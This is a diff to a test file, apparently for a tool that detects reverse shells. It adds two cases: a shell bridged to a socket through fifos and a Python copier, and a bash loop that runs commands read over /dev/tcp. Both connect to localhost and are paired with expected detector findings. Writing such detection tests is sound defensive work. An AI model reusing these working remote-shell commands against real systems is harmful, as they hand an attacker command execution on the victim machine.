@@ -137,4 +137,34 @@ waitpid $pid, 0;`,
     happened,
     found: { ...found, program: "/dash" },
   },
+  {
+    name: "a shell between two fifos, whose other ends python copies to a socket",
+    prepare,
+    command: () =>
+      thenShow(
+        'mkfifo in out; sh <in >out 2>&1 & python3 -c "$1"; wait',
+        `import socket
+s = socket.create_connection(("127.0.0.1", ${port}))
+to = open("in", "wb", buffering=0)
+out = open("out", "rb", buffering=0)
+while data := s.recv(999):
+    to.write(data)
+to.close()
+while data := out.read(999):
+    s.sendall(data)`,
+      ),
+    happened,
+    // Opening a fifo waits for the other end, so the shell starts last.
+    found: { ...found, message: /from python3\.11 .* is connected to/, program: "/dash" },
+  },
+  {
+    name: "bash runs each line that cat copies from its connection",
+    prepare,
+    command: () =>
+      thenShow(
+        `exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3 | while read -r line; do env sh -c "$line" >&3; done`,
+      ),
+    happened,
+    found: { ...found, message: /from cat .* is connected to/, program: "/env" },
+  },
 ];
